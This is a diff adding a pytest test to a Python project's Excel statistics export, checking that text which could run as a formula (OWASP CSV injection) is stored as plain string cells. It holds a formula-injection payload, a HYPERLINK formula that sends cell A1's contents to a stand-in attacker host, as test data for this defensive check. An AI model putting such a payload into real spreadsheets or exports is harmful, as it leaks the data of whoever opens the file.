@@ -118,3 +118,26 @@ def test_total_only(store: Store, scenario: Scenario) -> None:
     sheet = book(store, StatsFilter(group_by="total"))["效能统计"]
     assert sheet.max_row == 2
     assert [sheet["A1"].value, sheet["A2"].value, sheet["C2"].value] == ["合计", "合计", 7]
+
+
+def test_text_that_could_run_as_a_formula_is_written_as_text(
+    store: Store, scenario: Scenario
+) -> None:
+    """OWASP CSV injection: a model named ``=HYPERLINK(…)`` is a string cell, not a formula."""
+    from sqlalchemy import update
+
+    from jiancha.store import SupervisionModel
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    with store.session() as session:
+        session.execute(
+            update(SupervisionModel).where(SupervisionModel.slug == A).values(name=evil)
+        )
+        session.execute(
+            update(SupervisionModel).where(SupervisionModel.slug == D).values(name="@SUM(1)")
+        )
+    workbook = book(store, StatsFilter(group_by="model"))
+    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
+    shown = {c.value: c for c in cells if isinstance(c.value, str)}
+    assert shown[evil].data_type == "s" and shown["@SUM(1)"].data_type == "s"
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
